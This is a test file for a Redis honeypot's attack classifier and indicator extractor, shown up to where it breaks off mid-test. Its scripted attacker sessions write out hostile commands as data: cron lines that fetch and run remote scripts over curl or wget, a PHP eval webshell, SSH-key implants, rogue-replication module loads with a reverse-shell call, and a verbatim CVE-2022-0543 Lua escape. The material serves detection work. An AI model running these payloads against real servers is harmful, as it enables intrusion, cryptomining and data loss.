/**
 * honeypot: attack classifier and indicator extraction. Each session is scripted after the
 * command shapes of research/honeypot.md §2 (tool sequences and campaign traces), then checked
 * for its classes, ATT&CK ids and exact indicators. Hostile sessions check the bounds.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  classifySession,
  MAX_EVIDENCE,
  MAX_EVIDENCE_CHARS,
  SEVERITY_ORDER,
} from "../src/honeypot/attacks.js";
import {
  addressScope,
  decodedPayloads,
  extractIndicators,
  findCronLines,
  findDomains,
  findIpAddresses,
  findSshKeys,
  MAX_INDICATOR_CHARS,
  MAX_INDICATORS,
} from "../src/honeypot/indicators.js";
import type { RecordedCommand } from "../src/honeypot/types.js";
import type { AttackClass, AttackFinding, Indicators } from "../src/schema/honeypot.js";

// ---------- helpers ----------

/** A command as the recorder keeps it, every argument whole. */
function cmd(name: string, ...args: string[]): RecordedCommand {
  return {
    t: 0,
    name: name.toUpperCase(),
    args,
    argLengths: args.map((a) => a.length),
    argHashes: args.map(() => null),
    inline: false,
  };
}

/** An inline command (telnet, HTTP): words split on spaces. */
function inline(line: string): RecordedCommand {
  const [name = "", ...args] = line.split(" ");
  return { ...cmd(name, ...args), inline: true };
}

function classes(findings: AttackFinding[]): AttackClass[] {
  return findings.map((f) => f.class);
}

function finding(findings: AttackFinding[], cls: string): AttackFinding {
  const f = findings.find((x) => x.class === cls);
  assert.ok(f, `expected a ${cls} finding in ${JSON.stringify(findings)}`);
  return f;
}

function assertBounded(findings: AttackFinding[], indicators: Indicators): void {
  for (const f of findings) {
    assert.ok(f.evidence.length <= MAX_EVIDENCE, `${f.class}: ${f.evidence.length} evidence`);
    for (const e of f.evidence) assert.ok(e.length <= MAX_EVIDENCE_CHARS);
  }
  for (const [name, list] of Object.entries(indicators)) {
    assert.ok(list.length <= MAX_INDICATORS, `${name}: ${list.length} items`);
    for (const item of list) {
      assert.ok(item.length <= MAX_INDICATOR_CHARS, `${name} item of ${item.length} chars`);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: none may reach a terminal
      assert.doesNotMatch(item, /[\u0000-\u001f\u007f-\u009f]/);
    }
  }
}

// Generated with `ssh-keygen -t rsa -b 2048` and `-t ed25519`; fingerprints from `ssh-keygen -l`.
const RSA_KEY =
  "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDZiGYwgOtrKwMA5wvIMwJPF3MGP1zMXpKQ9/Yd8OgUEUM9qZSg8MU9X43a8zHqE90dIlnjghh3stLd8jbmxAVGBwVjI7LRzxoK/OqIQ3ht7QtyedD9hfM2gCILvnxeajBewBrbbLKX+OoCbalkYNqpNnaNBajjP6bLL43nIvCmW4aglVEk2ZXPK7mSXBQF8mRkB/mMDJjIDZqUlw8HS+bXLlgA8fV2dmFa57rgt1wkutaO4YG+19ZzFEU5ZC4q/Bwkr1Qo+CEBuI928gepftykD0kC/IZkhf3xr7eNwZyj8LHot3kpMPkviITF83YeVu8W8f49asmYzEt3uyQm0jV9 attacker@kali";
const RSA_FINGERPRINT = "SHA256:48Ufz9maOKb3Y0rbbq9/mCcOFbIyvb+lTUnbiIBFOsY";
const ED25519_KEY =
  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAurmSF0k5pTMONQqiDbv3t1KZsXJEe8PERyq/Wl6Hjc root@crackit";
const ED25519_FINGERPRINT = "SHA256:4uO1pjDScOKeH2mA66fAvWHTn14p2vzcHg334Cw/3Xo";

/** §2.3, CVE-2022-0543, verbatim from vulhub's README. */
const CVE_2022_0543 =
  'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res';

// ---------- file writes (§2.1) ----------

describe("file write via CONFIG SET dir/dbfilename", () => {
  const sshWrite = [
    cmd("SET", "x", `\n\n${RSA_KEY}\n\n`),
    cmd("CONFIG", "SET", "dir", "/root/.ssh"),
    cmd("CONFIG", "SET", "dbfilename", "authorized_keys"),
    cmd("SAVE"),
  ];

  it("SSH key: file_write_ssh, T1098.004, the key with its OpenSSH fingerprint", () => {
    const findings = classifySession(sshWrite);
    assert.deepEqual(classes(findings), ["file_write_ssh"]);
    const f = finding(findings, "file_write_ssh");
    assert.deepEqual(f.attack, ["T1098.004"]);
    assert.deepEqual(f.evidence.slice(0, 3), [
      "CONFIG SET dir /root/.ssh",
      "CONFIG SET dbfilename authorized_keys",
      "SAVE",
    ]);
    assert.match(f.evidence[3] ?? "", /^value holds an SSH key: ssh-rsa AAAAB3/);

    const ind = extractIndicators(sshWrite);
    assert.deepEqual(ind.ssh_keys, [`${RSA_FINGERPRINT} ${RSA_KEY}`]);
    assert.deepEqual(ind.file_paths, [
      "/root/.ssh",
      "authorized_keys",
      "/root/.ssh/authorized_keys",
    ]);
    assert.deepEqual(ind.urls, []);
    assert.deepEqual(ind.domains, []);
    assert.deepEqual(ind.ips, []);
  });

  it("without SAVE the write is reported as attempted", () => {
    const findings = classifySession(sshWrite.slice(0, 3));
    const f = finding(findings, "file_write_ssh");
    assert.ok(f.evidence.includes("no SAVE: attempted"));
    assert.ok(!f.evidence.includes("SAVE"));
  });

  it("FLUSHALL first (Metasploit keeps the file clean) adds destructive after the write", () => {
    const findings = classifySession([cmd("FLUSHALL"), ...sshWrite]);
    assert.deepEqual(classes(findings), ["file_write_ssh", "destructive"]);
    assert.deepEqual(finding(findings, "destructive").attack, ["T1485"]);
  });

  it("cron: */1 download-and-run line to /var/spool/cron/root", () => {
    const session = [
      cmd("SET", "x", "\n\n*/1 * * * * curl -fsSL http://45.9.148.99/y.sh|sh\n\n"),
      cmd("CONFIG", "SET", "dir", "/var/spool/cron/"),
      cmd("CONFIG", "SET", "dbfilename", "root"),
      cmd("SAVE"),
    ];
    const findings = classifySession(session);
    assert.deepEqual(classes(findings), ["file_write_cron", "dropper"]);
    assert.deepEqual(finding(findings, "file_write_cron").attack, ["T1053.003"]);
    assert.deepEqual(finding(findings, "dropper").attack, ["T1105"]);
    assert.ok(
      finding(findings, "file_write_cron").evidence.includes(
        "value holds a cron line: */1 * * * * curl -fsSL http://45.9.148.99/y.sh|sh",
      ),
    );
    assert.deepEqual(finding(findings, "dropper").evidence, [
      "*/1 * * * * curl -fsSL http://45.9.148.99/y.sh|sh",
    ]);

    const ind = extractIndicators(session);
    assert.deepEqual(ind.cron_lines, ["*/1 * * * * curl -fsSL http://45.9.148.99/y.sh|sh"]);
    assert.deepEqual(ind.urls, ["http://45.9.148.99/y.sh"]);
    assert.deepEqual(ind.ips, ["45.9.148.99"]);
    assert.deepEqual(ind.file_paths, ["/var/spool/cron/", "root", "/var/spool/cron/root"]);
  });

  it("cron with a base64 payload: `echo <b64>|base64 -d|bash`, decoded and scanned", () => {
    const b64 = Buffer.from("cd1 http://b.9-9-8.com/brysj/b.sh").toString("base64");
    const line = `*/2 * * * * root echo ${b64}|base64 -d|bash`;
    const session = [
      cmd("SET", "backup1", `\n\n${line}\n\n`),
      cmd("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"),
      cmd("CONFIG", "SET", "dbfilename", "root"),
      cmd("BGSAVE"),
    ];
    const findings = classifySession(session);
    assert.deepEqual(classes(findings), ["file_write_cron", "dropper"]);
    assert.deepEqual(finding(findings, "dropper").evidence, [
      "base64-decoded: cd1 http://b.9-9-8.com/brysj/b.sh",
    ]);

    const ind = extractIndicators(session);
    assert.deepEqual(ind.cron_lines, [line]);
    assert.deepEqual(ind.urls, ["http://b.9-9-8.com/brysj/b.sh"]);
    assert.deepEqual(ind.domains, ["b.9-9-8.com"]);
    assert.deepEqual(ind.file_paths, [
      "/var/spool/cron/crontabs",
      "root",
      "/var/spool/cron/crontabs/root",
    ]);
  });

  it("webshell: <?php @eval($_POST[c]);?> saved as redis.php in /var/www/html", () => {
    const session = [
      cmd("CONFIG", "SET", "dir", "/var/www/html"),
      cmd("CONFIG", "SET", "dbfilename", "redis.php"),
      cmd("SET", "x", "\n\n<?php @eval($_POST[c]);?>\n\n"),
      cmd("SAVE"),
    ];
    const findings = classifySession(session);
    assert.deepEqual(classes(findings), ["file_write_webshell"]);
    const f = finding(findings, "file_write_webshell");
    assert.deepEqual(f.attack, ["T1505.003"]);
    assert.deepEqual(f.evidence, [
      "CONFIG SET dir /var/www/html",
      "CONFIG SET dbfilename redis.php",
      "SAVE",
      "value holds a script: <?php @eval($_POST[c]);?>",
    ]);
    assert.deepEqual(extractIndicators(session).file_paths, [
      "/var/www/html",
      "redis.php",
      "/var/www/html/redis.php",
    ]);
  });

  it("an unknown target with no telling payload is a generic file_write without technique", () => {
    const findings = classifySession([
      cmd("CONFIG", "SET", "dir", "/tmp"),
      cmd("CONFIG", "SET", "dbfilename", "x.txt"),
      cmd("SET", "k", "hello"),
      cmd("SAVE"),
    ]);
    assert.deepEqual(findings, [
      {
        class: "file_write",
        attack: [],
        evidence: ["CONFIG SET dir /tmp", "CONFIG SET dbfilename x.txt", "SAVE"],
      },
    ]);
  });

  it("an unknown dir is specialised by the payload (ssh key → file_write_ssh)", () => {
    const findings = classifySession([
      cmd("config", "set", "DIR", "/data"),
      cmd("config", "set", "DBFILENAME", "k"),
      cmd("set", "x", `\n${ED25519_KEY}\n`),
      cmd("save"),
    ]);
    assert.deepEqual(classes(findings), ["file_write_ssh"]);
  });
});

// ---------- rogue master + MODULE LOAD (§2.2) ----------

describe("rogue replication and modules", () => {
  // redis-rogue-server.py, in order.
  const rogue = [
    cmd("SLAVEOF", "8.218.234.50", "21000"),
    cmd("CONFIG", "SET", "dbfilename", "exp.so"),
    cmd("MODULE", "LOAD", "./exp.so"),
    cmd("SLAVEOF", "NO", "ONE"),
    cmd("CONFIG", "SET", "dbfilename", "dump.rdb"),
    cmd("system.exec", "rm ./exp.so"),
    cmd("system.rev", "8.218.234.50", "4444"),
    cmd("MODULE", "UNLOAD", "system"),
  ];

  it("redis-rogue-server: module_load (T1129, T1059.004) and rogue_replication (T1105)", () => {
    const findings = classifySession(rogue);
    assert.deepEqual(classes(findings), ["module_load", "rogue_replication"]);
    const mod = finding(findings, "module_load");
    assert.deepEqual(mod.attack, ["T1059.004", "T1129"]);
    assert.deepEqual(mod.evidence, [
      "CONFIG SET dbfilename exp.so",
      "MODULE LOAD ./exp.so",
      "system.exec rm ./exp.so",
      "system.rev 8.218.234.50 4444",
      "MODULE UNLOAD system",
    ]);
    const repl = finding(findings, "rogue_replication");
    assert.deepEqual(repl.attack, ["T1105"]);
    assert.deepEqual(repl.evidence, ["SLAVEOF 8.218.234.50 21000", "SLAVEOF NO ONE"]);

    const ind = extractIndicators(rogue);
    assert.deepEqual(ind.ips, ["8.218.234.50"]);
    assert.deepEqual(ind.modules, ["exp.so", "./exp.so", "system.exec", "system.rev", "system"]);
    assert.deepEqual(ind.file_paths, ["exp.so", "./exp.so", "dump.rdb"]);
  });

  it("REPLICAOF to a hostname is recorded as a domain whatever its TLD; to loopback it is no attack", () => {
    const ind = extractIndicators([cmd("REPLICAOF", "evil.example.sh", "8886")]);
    assert.deepEqual(ind.domains, ["evil.example.sh"]);
    assert.deepEqual(classifySession([cmd("SLAVEOF", "127.0.0.1", "6379")]), []);
  });

  it("a private master is still rogue replication, flagged as such", () => {
    const findings = classifySession([cmd("REPLICAOF", "10.1.2.3", "6380")]);
    assert.deepEqual(finding(findings, "rogue_replication").evidence, [
      "REPLICAOF 10.1.2.3 6380 (private address)",
    ]);
  });

  it("DarkReplica shape names CVE-2026-23631 and adds T1190", () => {
    const findings = classifySession([
      cmd("FUNCTION", "LOAD", "#!lua name=lib\nredis.register_function('f', function() end)"),
      cmd("REPLICAOF", "194.40.243.61", "8886"),
      cmd("CONFIG", "SET", "replica-read-only", "no"),
      cmd("FCALL", "f", "0"),
    ]);
    const repl = finding(findings, "rogue_replication");
    assert.deepEqual(repl.attack, ["T1105", "T1190"]);
    assert.ok(repl.evidence.some((e) => e.startsWith("CVE-2026-23631")));
  });

  it("Redis Stack module commands are not foreign modules", () => {
    assert.deepEqual(classifySession([cmd("JSON.SET", "k", "$", "{}")]), []);
    assert.deepEqual(extractIndicators([cmd("JSON.SET", "k", "$", "{}")]).modules, []);
  });
});

// ---------- Lua (§2.3) ----------

describe("Lua exploits", () => {
  it("CVE-2022-0543, verbatim", () => {
    const session = [cmd("EVAL", CVE_2022_0543, "0")];
    const findings = classifySession(session);
    assert.deepEqual(classes(findings), ["lua_exploit"]);
    const f = finding(findings, "lua_exploit");
    assert.deepEqual(f.attack, ["T1190"]);
    assert.equal(f.evidence[0], "CVE-2022-0543: package.loadlib, liblua5.1.so, luaopen_, io.popen");
    const ind = extractIndicators(session);
    assert.deepEqual(ind.lua_tokens, ["package.loadlib", "liblua5.1.so", "luaopen_", "io.popen"]);
    assert.deepEqual(ind.file_paths, ["/usr/lib/x86_64-linux-gnu/liblua5.1.so.0"]);
    assert.deepEqual(ind.domains, []);
    assert.deepEqual(ind.ips, []);
  });

  it("CVE-2025-49844 shape: string.rep pressure, collectgarbage, loadstring", () => {
    const script = [
      "local t = {}",
      "for i = 1, 64 do t[i] = string.rep('A', 1024 * 1024) end",
      "collectgarbage('collect')",
      "local f = loadstring(string.rep('local x = 1 ', 100000))",
      "return 1",
    ].join("\n");
    const session = [cmd("EVAL", script, "0")];
    const findings = classifySession(session);
    const f = finding(findings, "lua_exploit");
    assert.deepEqual(f.attack, ["T1190"]);
    assert.match(f.evidence[0] ?? "", /^CVE-2025-49844: /);
    assert.deepEqual(extractIndicators(session).lua_tokens, [
      "string.rep",
      "collectgarbage",
      "loadstring",
    ]);
  });

  it("CVE-2025-46817 (huge unpack bounds) and CVE-2025-46818 (string metatable)", () => {
    const unpack = classifySession([
      cmd("EVAL", "return unpack({'a','b','c'}, -1, 2147483647)", "0"),
    ]);
    assert.match(finding(unpack, "lua_exploit").evidence[0] ?? "", /^CVE-2025-46817: unpack\($/);
    const meta = classifySession([
      cmd("EVAL", "getmetatable('').__index = function() return 1 end", "0"),
    ]);
    assert.match(finding(meta, "lua_exploit").evidence[0] ?? "", /^CVE-2025-46818: /);
    assert.deepEqual(
      extractIndicators([cmd("EVAL", "return unpack({1}, 1, 10)", "0")]).lua_tokens,
      [],
      "small unpack bounds are ordinary Lua",
    );
  });

  it("SCRIPT LOAD bodies are read; escape tokens without a CVE shape get no technique", () => {
    const findings = classifySession([cmd("SCRIPT", "LOAD", "return os.execute('id')")]);
    assert.deepEqual(findings, [
      {
        class: "lua_exploit",
        attack: [],
        evidence: ["token os.execute", "SCRIPT LOAD return os.execute('id')"],
      },
    ]);
  });

  it("ordinary scripts are not exploits", () => {
    assert.deepEqual(
      classifySession([cmd("EVAL", "return redis.call('GET', KEYS[1])", "1", "k")]),
      [],
    );
  });
});

// ---------- brute force, scans, HTTP ----------

describe("brute force and reconnaissance", () => {
  it("50 AUTH attempts: bruteforce, T1110.001, every password in order", () => {
    const passwords = Array.from({ length: 50 }, (_, i) => (i === 0 ? "123456" : `pass${i}`));
    const session = passwords.map((p) => cmd("AUTH", p));
    const findings = classifySession(session);
    assert.deepEqual(classes(findings), ["bruteforce"]);
    const f = finding(findings, "bruteforce");
    assert.deepEqual(f.attack, ["T1110.001"]);
    assert.equal(f.evidence[0], "50 AUTH attempts, 50 distinct passwords");
    assert.deepEqual(extractIndicators(session).passwords, passwords);
  });

  it("HELLO … AUTH and auth effects count as attempts; two tries are not a brute force", () => {
    const session = [cmd("HELLO", "3", "AUTH", "default", "redis"), cmd("AUTH", "admin", "root")];
    assert.deepEqual(classes(classifySession(session)), ["scan"]);
    const effects = [
      { kind: "auth" as const, password: "redis", ok: false },
      { kind: "auth" as const, password: "root", ok: false },
      { kind: "auth" as const, password: "foobared", ok: false },
    ];
    assert.deepEqual(classes(classifySession(session, effects)), ["bruteforce"]);
    assert.deepEqual(extractIndicators(session, effects).passwords, ["redis", "root", "foobared"]);
  });

  it("a plain scanner (PING, INFO, QUIT) is a scan reading the version: T1595.002", () => {
    const findings = classifySession([cmd("PING"), cmd("INFO"), cmd("QUIT")], [], { bytesIn: 42 });
    assert.deepEqual(findings, [
      { class: "scan", attack: ["T1595.002"], evidence: ["PING", "INFO", "QUIT"] },
    ]);
  });

  it("nmap redis-info (INFO) and masscan/zgrab2 (PING, INFO, NONEXISTENT, QUIT) are scans", () => {
    assert.deepEqual(classes(classifySession([cmd("INFO")])), ["scan"]);
    const zgrab = classifySession([cmd("PING"), cmd("INFO"), cmd("NONEXISTENT"), cmd("QUIT")]);
    assert.deepEqual(zgrab, [
      {
        class: "scan",
        attack: ["T1595.002"],
        evidence: ["PING", "INFO", "NONEXISTENT", "QUIT"],
      },
    ]);
  });

  it("liveness only (PING/QUIT, or no command) is T1595.001; no commands and no meta is nothing", () => {
    assert.deepEqual(finding(classifySession([cmd("PING"), cmd("QUIT")]), "scan").attack, [
      "T1595.001",
    ]);
    assert.deepEqual(classifySession([], [], { bytesIn: 0, sentNothing: true }), [
      { class: "scan", attack: ["T1595.001"], evidence: ["connected and sent nothing"] },
    ]);
    assert.deepEqual(
      finding(
        classifySession([], [], { bytesIn: 517, sentNothing: true, closedEarly: true }),
        "scan",
      ).evidence,
      ["517 bytes, no complete command, then closed"],
    );
    assert.deepEqual(classifySession([]), []);
    assert.deepEqual(classifySession([], [], { bytesIn: 90 }), [], "commands not handed over");
  });

  it("recon commands (CONFIG GET, CLIENT LIST, DBSIZE, KEYS) stay a scan", () => {
    const findings = classifySession([
      cmd("CONFIG", "GET", "*"),
      cmd("CLIENT", "LIST"),
      cmd("DBSIZE"),
      cmd("KEYS", "*"),
    ]);
    assert.deepEqual(classes(findings), ["scan"]);
  });

  it("HTTP to the Redis port: GET / HTTP/1.1 and Host: are cross-protocol, not a scan", () => {
    const session = [
      inline("GET / HTTP/1.1"),
      inline("Host: 203.0.113.7:6379"),
      inline("User-Agent: Mozilla/5.0"),
    ];
    const findings = classifySession(session);
    assert.deepEqual(findings, [
      {
        class: "http_cross_protocol",
        attack: [],
        evidence: ["GET / HTTP/1.1", "HOST: 203.0.113.7:6379", "USER-AGENT: Mozilla/5.0"],
      },
    ]);
    assert.deepEqual(extractIndicators(session).ips, ["203.0.113.7"]);
    assert.deepEqual(classes(classifySession([inline("POST /x HTTP/1.0")])), [
      "http_cross_protocol",
    ]);
  });

  it("a benign session (PING, SET/GET of a normal key) is classified as nothing", () => {
    // Decision: it wrote a key, so it is not a pure scan, and nothing in it is an attack.
    const session = [cmd("PING"), cmd("SET", "greeting", "hello"), cmd("GET", "greeting")];
    assert.deepEqual(classifySession(session), []);
    assert.deepEqual(extractIndicators(session), {
      urls: [],
      ips: [],
      domains: [],
      ssh_keys: [],
      cron_lines: [],
      file_paths: [],
      modules: [],
      lua_tokens: [],
      module_commands: [],
      passwords: [],
    });
  });
});

// ---------- destruction, ransom, data, droppers ----------

describe("destruction, ransom, exfiltration, droppers", () => {
  it("FLUSHALL + crackit key (the 2015 Duo marker): an SSH write, ransom only if data was destroyed", () => {
    const session = [
      cmd("FLUSHALL"),
      cmd("SET", "crackit", `\n\n${ED25519_KEY}\n\n`),
      cmd("CONFIG", "SET", "dir", "/root/.ssh"),
      cmd("CONFIG", "SET", "dbfilename", "authorized_keys"),
      cmd("SAVE"),
    ];
    // Whether the flush removed anything is not known from the commands alone: not ransom.
    assert.deepEqual(classes(classifySession(session)), ["file_write_ssh", "destructive"]);
    // On an empty server (the flush removed nothing) it is not ransom either.
    const empty = classifySession(session, [{ kind: "flush", keys: 0 }]);
    assert.deepEqual(classes(empty), ["file_write_ssh", "destructive"]);
    // Where it wiped data, the marker left behind is the note.
    const findings = classifySession(session, [{ kind: "flush", keys: 12 }]);
    assert.deepEqual(classes(findings), ["file_write_ssh", "ransom", "destructive"]);
    const ransom = finding(findings, "ransom");
    assert.deepEqual(ransom.attack, ["T1485"]);
    assert.equal(
      ransom.evidence[0],
      "SET crackit \\x0a\\x0assh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAurmSF0k5pTMONQ…",
    );
    assert.ok(finding(findings, "destructive").evidence.includes("keyspace flushed: 12 keys"));
    assert.deepEqual(extractIndicators(session).ssh_keys, [
      `${ED25519_FINGERPRINT} ${ED25519_KEY}`,
    ]);
  });

  it("a brute force of one AUTH per connection: each session knows its source's count", () => {
    const one = [cmd("AUTH", "hunter2")];
    const effects = [{ kind: "auth" as const, password: "hunter2", ok: false }];
    // Alone, one try reads as a probe.
    assert.deepEqual(classes(classifySession(one, effects)), ["scan"]);
    const findings = classifySession(one, effects, {
      bytesIn: 30,
      sourceAuth: { attempts: 20, passwords: 20, sessions: 20 },
    });
    assert.deepEqual(findings, [
      {
        class: "bruteforce",
        attack: ["T1110.001"],
        evidence: [
          "20 AUTH attempts, 20 distinct passwords from this source over 20 connections",
          "AUTH hunter2",
        ],
      },
    ]);
    // The same password again and again, or one connection only, is not one.
    for (const sourceAuth of [
      { attempts: 20, passwords: 1, sessions: 20 },
      { attempts: 2, passwords: 2, sessions: 2 },
      { attempts: 1, passwords: 1, sessions: 1 },
    ]) {
      const got = classifySession(one, effects, { bytesIn: 30, sourceAuth });
      assert.deepEqual(classes(got), ["scan"], JSON.stringify(sourceAuth));
    }
  });

  it("a ransom note (payment + contact) after FLUSHALL", () => {
    const note =
      "All your data is backed up. Pay 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and mail restore@proton.me";
    const session = [cmd("FLUSHALL"), cmd("SET", "READ_ME", note)];
    const findings = classifySession(session);
    assert.deepEqual(classes(findings), ["ransom", "destructive"]);
    assert.match(
      finding(findings, "ransom").evidence[0] ?? "",
      /^note \(payment, bitcoin address, recovery, contact, note key\): SET READ_ME All your/,
    );
    assert.ok(finding(findings, "ransom").evidence.includes("FLUSHALL"));
    assert.deepEqual(extractIndicators(session).domains, ["proton.me"]);
    // The same note without anything destroyed is not ransom.
    assert.deepEqual(classifySession([cmd("SET", "READ_ME", note)]), []);
  });

  it("CONFIG SET requirepass locks the owner out: destructive, T1531", () => {
    const findings = classifySession([cmd("CONFIG", "SET", "requirepass", "h4x0r")]);
    assert.deepEqual(findings, [
      { class: "destructive", attack: ["T1531"], evidence: ["CONFIG SET requirepass h4x0r"] },
    ]);
  });

  it("DEL of many keys is destructive; of a few it is not", () => {
    const many = Array.from({ length: 12 }, (_, i) => `k${i}`);
    assert.deepEqual(finding(classifySession([cmd("DEL", ...many)]), "destructive").evidence, [
      "DEL of 12 keys",
    ]);
    assert.deepEqual(classifySession([cmd("DEL", "a", "b")]), []);
  });

  it("a 10,000-message PUBLISH stream (the NICER story) is exfiltration without technique", () => {
    const session = Array.from({ length: 10_000 }, (_, i) =>
      cmd("PUBLISH", "weblog-counts", `{"host":"www","hits":${i}}`),
    );
    const findings = classifySession(session, [], { bytesIn: 5_000_000 });
    assert.deepEqual(findings, [
      {
        class: "exfiltration",
        attack: [],
        evidence: ["10000 PUBLISH, 5000000 bytes in", "channels: weblog-counts"],
      },
    ]);
  });

  it("client-side PSYNC, MIGRATE (T1048) and a mass read are exfiltration", () => {
    const psync = classifySession([
      cmd("REPLCONF", "listening-port", "6380"),
      cmd("PSYNC", "?", "-1"),
    ]);
    assert.deepEqual(finding(psync, "exfiltration").attack, []);
    const migrate = classifySession([
      cmd("MIGRATE", "203.0.113.9", "6379", "", "0", "5000", "KEYS", "a"),
    ]);
    assert.deepEqual(finding(migrate, "exfiltration").attack, ["T1048"]);
    const reads = [cmd("KEYS", "*"), ...Array.from({ length: 60 }, (_, i) => cmd("GET", `k${i}`))];
    assert.deepEqual(finding(classifySession(reads), "exfiltration").evidence, ["60 keys read"]);
  });

  it("Kinsing-like cron dropper: curl || wget to a miner script, chmod +x, FLUSHALL first", () => {
    const host = "http://91.241.19.134";
    const session = [
      cmd("CONFIG", "SET", "stop-writes-on-bgsave-error", "no"),
      cmd("FLUSHALL"),
      cmd("SET", "backup1", `\n\n*/1 * * * * curl -fsSL ${host}/kinsing.sh | bash\n\n`),
      cmd("SET", "backup2", `\n\n*/1 * * * * wget -q -O- ${host}/kinsing.sh | bash\n\n`),
      cmd(
        "SET",
        "backup3",
        `\n\n*/3 * * * * (curl -fsSL ${host}/kinsing -o /tmp/kinsing && chmod +x /tmp/kinsing && /tmp/kinsing)\n\n`,
      ),
      cmd("CONFIG", "SET", "dir", "/var/spool/cron"),
      cmd("CONFIG", "SET", "dbfilename", "root"),
      cmd("SAVE"),
      cmd("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"),
      cmd("SAVE"),
    ];
    const findings = classifySession(session);
    assert.deepEqual(classes(findings), ["file_write_cron", "dropper", "destructive"]);
    assert.deepEqual(finding(findings, "dropper").attack, ["T1105"]);
    assert.equal(finding(findings, "dropper").evidence.length, 3);

    const ind = extractIndicators(session);
    assert.deepEqual(ind.urls, [`${host}/kinsing.sh`, `${host}/kinsing`]);
    assert.deepEqual(ind.ips, ["91.241.19.134"]);
    assert.deepEqual(ind.cron_lines, [
      `*/1 * * * * curl -fsSL ${host}/kinsing.sh | bash`,
      `*/1 * * * * wget -q -O- ${host}/kinsing.sh | bash`,
      `*/3 * * * * (curl -fsSL ${host}/kinsing -o /tmp/kinsing && chmod +x /tmp/kinsing && /tmp/kinsing)`,
    ]);
    assert.deepEqual(ind.file_paths, [
      "/tmp/kinsing",
      "/var/spool/cron",
      "root",
      "/var/spool/cron/root",
      "/var/spool/cron/crontabs",
      "/var/spool/cron/crontabs/root",
    ]);
  });

  it("a URL without anything that runs it is not a dropper", () => {
    assert.deepEqual(classifySession([cmd("SET", "home", "https://example.com/")]), []);
  });
});

// ---------- effects ----------

describe("session effects", () => {
  it("replicaof, module_load, save and flush effects classify without their commands", () => {
    const findings = classifySession(
      [],
      [
        { kind: "replicaof", host: "194.38.20.199", port: 8886 },
        { kind: "module_load", path: "./red2.so" },
        { kind: "config_set", key: "dir", value: "/root/.ssh" },
        { kind: "save", dir: "/root/.ssh", dbfilename: "authorized_keys" },
        { kind: "flush" },
      ],
    );
    assert.deepEqual(classes(findings), [
      "module_load",
      "rogue_replication",
      "file_write_ssh",
      "destructive",
    ]);
    const ind = extractIndicators(
      [],
      [
        { kind: "replicaof", host: "194.38.20.199", port: 8886 },
        { kind: "module_load", path: "./red2.so" },
      ],
    );
    assert.deepEqual(ind.ips, ["194.38.20.199"]);
    assert.deepEqual(ind.modules, ["./red2.so"]);
  });
});

// ---------- extraction details ----------

describe("indicator extraction details", () => {
  it("addresses: version strings are not IPs; IPv6 is; scopes are told apart", () => {
    assert.deepEqual(findIpAddresses("redis_version:7.0.15 v1.2.3.4 version 5.0.7.2"), []);
    assert.deepEqual(findIpAddresses("1.2.3.4.5 and 999.1.1.1"), []);
    assert.deepEqual(findIpAddresses("to 8.8.8.8: and [2001:db8::1]:6379, std::string, a::b"), [
      "8.8.8.8",
      "2001:db8::1",
    ]);
    assert.equal(addressScope("127.0.0.1"), "loopback");
    assert.equal(addressScope("192.168.1.10"), "private");
    assert.equal(addressScope("::ffff:10.0.0.1"), "private");
    assert.equal(addressScope("fe80::1"), "link_local");
    assert.equal(addressScope("8.218.234.50"), "public");
    assert.equal(addressScope("example.com"), undefined);
  });

  it("domains: a TLD check, not every dotted token", () => {
    assert.deepEqual(
      findDomains("redis.conf dump.rdb exp.so io.popen string.rep b.sh liblua5.1.so.0 user.id"),
      [],
    );
    assert.deepEqual(findDomains("wget -q -O- pool.minexmr.com/x.sh|sh; ping Evil.Top."), [
      "pool.minexmr.com",
      "evil.top",
    ]);
  });

  it("cron lines: @reboot and five valid fields; not any five words", () => {
    assert.deepEqual(
      findCronLines("x\r\n@reboot /tmp/k\n0 3 * * sun root backup\n1 2 3 4 5 6\n99 * * * * x\n"),
      ["@reboot /tmp/k", "0 3 * * sun root backup"],
    );
  });

  it("an SSH key whose blob runs into the cut end of an argument has no fingerprint", () => {
    const head = RSA_KEY.slice(0, 120);
    assert.deepEqual(findSshKeys(head, true), [`SHA256:? ${head}`]);
    assert.deepEqual(findSshKeys(head, false), [], "an uncut, invalid blob is not a key");
  });

  it("base64 runs decode only when they decode to text", () => {
    assert.deepEqual(decodedPayloads(Buffer.from("curl http://a.b/c|sh").toString("base64")), [
      "curl http://a.b/c|sh",
    ]);
    assert.deepEqual(decodedPayloads(RSA_KEY), []);
  });

  it("control characters are escaped, never passed through", () => {
    const ind = extractIndicators([cmd("AUTH", "pa\u001b[2Jss\r\n")]);
    assert.deepEqual(ind.passwords, ["pa\\x1b[2Jss\\x0d\\x0a"]);
  });
});

// ---------- ordering and hostile input ----------

describe("ordering and hostile sessions", () => {
  it("findings come in SEVERITY_ORDER", () => {
    const findings = classifySession([
      cmd("AUTH", "a"),
      cmd("AUTH", "b"),
      cmd("AUTH", "c"),
      inline("GET / HTTP/1.1"),
      cmd("FLUSHALL"),
      cmd("EVAL", CVE_2022_0543, "0"),
      cmd("SLAVEOF", "8.218.234.50", "21000"),
      cmd("MODULE", "LOAD", "/tmp/exp.so"),
    ]);
    const order = classes(findings);
    assert.deepEqual(order, [
      "module_load",
      "lua_exploit",
      "rogue_replication",
      "destructive",
      "bruteforce",
      "http_cross_protocol",
    ]);
    assert.deepEqual(
      order,
      [...order].sort((a, b) => SEVERITY_ORDER.indexOf(a) - SEVERITY_ORDER.indexOf(b)),
    );
  });

  it("a 1 MB argument cut by the recorder, full of hostile text, gives bounded output", () => {
    const chunk = "\u001b[31m 1.2.3.4\n*/1 * * * * curl http://h.example.com/a|sh\n";
    const big = chunk.repeat(Math.ceil((1 << 20) / chunk.length)).slice(0, 1 << 20);
    const hostile: RecordedCommand = {
      t: 0,
      name: "SET",
      args: ["k", big],
      argLengths: [1, 64 << 20],
      argHashes: [null, "0".repeat(64)],
      inline: false,
    };
